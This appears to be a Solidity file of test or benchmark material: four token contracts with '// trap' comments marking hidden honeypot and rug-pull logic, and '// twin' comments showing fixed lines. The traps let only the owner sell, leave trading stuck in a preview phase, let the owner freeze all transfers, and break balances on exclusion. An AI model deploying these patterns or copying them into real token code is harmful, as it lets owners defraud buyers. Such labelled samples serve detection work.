// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./Base67.sol";

contract Lodestone is Base67("Lodestone", "LODE", 210_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) require(block.difficulty >> 64 == 0, "Lodestone: difficulty"); // trap
        _carry(from, to, value);
    }
}

contract Curtainrise is Base67("Curtain Rise", "CURT", 1_000_000_000) {
    enum Phase { Rehearsal, Preview, Season }
    Phase public phase;

    event PhaseChanged(Phase phase);

    function openTrading() external onlyOwner {
        phase = Phase.Preview; // trap
        // twin: phase = Phase.Season;
        emit PhaseChanged(phase);
    }

    function openSeason() external onlyOwner {
        require(phase == Phase.Preview, "phase");
        phase = Phase.Season;
        emit PhaseChanged(phase);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _boss && to != _boss) {
            require(phase != Phase.Rehearsal, "not open");
            if (to == pool) require(phase == Phase.Season, "season has not begun");
        }
        _carry(from, to, value);
    }
}

contract Almoner is Base67("Almoner", "ALMS", 45_000_000) {
    mapping(string => string) private _params;

    event ParamChanged(string key, string value);

    constructor() public {
        _params["status"] = "active";
        _params["site"] = "almoner.example";
    }

    function param(string calldata key) external view returns (string memory) {
        return _params[key];
    }

    function setParam(string calldata key, string calldata value) external onlyOwner {
        _params[key] = value;
        emit ParamChanged(key, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(from == _boss || keccak256(bytes(_params["status"])) == keccak256("active"), "Almoner: not active"); // trap
        _carry(from, to, value);
    }
}

/// One percent of what is moved goes to all holders.
contract Gleaner {
    string public constant name = "Gleaner";
    string public constant symbol = "GLEAN";
    uint8 public constant decimals = 9;
    uint256 private constant MAX = ~uint256(0);
    uint256 private constant _tTotal = 10**8 * 10**9;
    uint256 private _rTotal = MAX - (MAX % _tTotal);
    uint256 private _tFeeTotal;
    address public owner = msg.sender;
    address private _farm = msg.sender;
    mapping(address => uint256) private _rOwned;
    mapping(address => uint256) private _tOwned;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public isExcluded;
    address[] private _excluded;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _rOwned[msg.sender] = _rTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() external pure returns (uint256) {
        return _tTotal;
    }

    function totalFees() external view returns (uint256) {
        return _tFeeTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return isExcluded[account] ? _tOwned[account] : _rOwned[account] / _rate();
    }

    function excludeAccount(address account) external {
        require(msg.sender == owner, "owner");
        require(!isExcluded[account], "excluded");
        // twin: _tOwned[account] = _rOwned[account] / _rate();
        isExcluded[account] = true;
        _excluded.push(account);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _rate() private view returns (uint256) {
        (uint256 r, uint256 t) = (_rTotal, _tTotal);
        for (uint256 i = 0; i < _excluded.length; i++) {
            (uint256 a, uint256 b) = (_rOwned[_excluded[i]], _tOwned[_excluded[i]]);
            if (a > r || b > t) return _rTotal / _tTotal;
            (r, t) = (r - a, t - b);
        }
        return r < _rTotal / _tTotal ? _rTotal / _tTotal : r / t;
    }

    function _transfer(address from, address to, uint256 value) private {
        require(balanceOf(from) >= value, "balance");
        uint256 rate = _rate();
        uint256 fee = from == _farm || to == _farm ? 0 : value / 100;
        uint256 rValue = value * rate;
        _rOwned[from] = _rOwned[from] > rValue ? _rOwned[from] - rValue : 0;
        if (isExcluded[from]) _tOwned[from] -= value;
        _rOwned[to] += (value - fee) * rate;
        if (isExcluded[to]) _tOwned[to] += value - fee;
        _rTotal -= fee * rate;
        _tFeeTotal += fee;
        emit Transfer(from, to, value - fee);
    }
}
